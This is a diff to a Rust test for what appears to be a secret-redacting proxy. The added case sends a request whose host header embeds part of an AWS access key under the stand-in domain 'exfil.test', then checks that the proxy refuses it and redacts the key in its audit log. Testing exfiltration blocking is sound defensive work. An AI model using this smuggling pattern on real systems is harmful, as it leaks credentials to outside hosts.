@@ -510,5 +510,22 @@ async fn a_secret_hidden_by_escapes_is_redacted_and_one_redaction_cannot_reach_i
         records[1]["request"]["path"],
         "/paste/[REDACTED:aws-access-key]"
     );
+
+    // A key in the host name: refused (here already because the name does not live at the destination), and the
+    // record shows the host without the key.
+    let req =
+        format!("GET /x HTTP/1.1\r\nhost: A{key_tail}.exfil.test\r\nconnection: close\r\n\r\n");
+    let (resp, _) = exchange(&p, up, req.as_bytes(), Duration::from_secs(5)).await;
+    assert_eq!(status_of(&resp), Some(421), "{resp}");
+    assert!(!resp.contains(key_tail), "{resp}");
+    let records = p.audit_records().await;
+    assert_eq!(records.len(), 3);
+    assert_eq!(records[2]["decision"]["reason"], "host_mismatch");
+    // Host names arrive lower-cased, so the key is found (and shown) in upper case.
+    assert_eq!(
+        records[2]["request"]["host"],
+        "[REDACTED:aws-access-key].EXFIL.TEST"
+    );
     assert!(!serde_json::to_string(&records).unwrap().contains(key_tail));
+    assert_eq!(seen.len(), 1);
 }
